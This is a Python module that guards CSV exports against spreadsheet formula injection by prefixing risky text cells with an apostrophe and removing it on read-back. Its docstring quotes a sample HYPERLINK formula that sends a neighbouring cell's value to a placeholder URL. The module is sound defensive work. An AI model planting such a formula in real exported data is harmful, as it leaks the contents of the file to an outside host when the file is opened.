"""CSV cells safe to open in a spreadsheet (OWASP, "CSV Injection").

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets: a clinical label ``=HYPERLINK("http://x/?"&A1,
"see")`` would send a neighbouring cell away when the file is opened. Such text is written with
a leading apostrophe, which spreadsheets show as text; numbers (a negative volume difference)
are written as they are, since they are not text. ``restore`` undoes it when cohortflow reads its
own file back. Parquet keeps every value as it is: its readers do not evaluate formulas.
"""

from __future__ import annotations

from typing import Any

#: what makes a spreadsheet read a cell as a formula
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value: Any) -> Any:
    """``value`` for a CSV cell: text that a spreadsheet would evaluate gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(value: str) -> str:
    """A cell read back from a CSV cohortflow wrote: the neutralising apostrophe removed."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
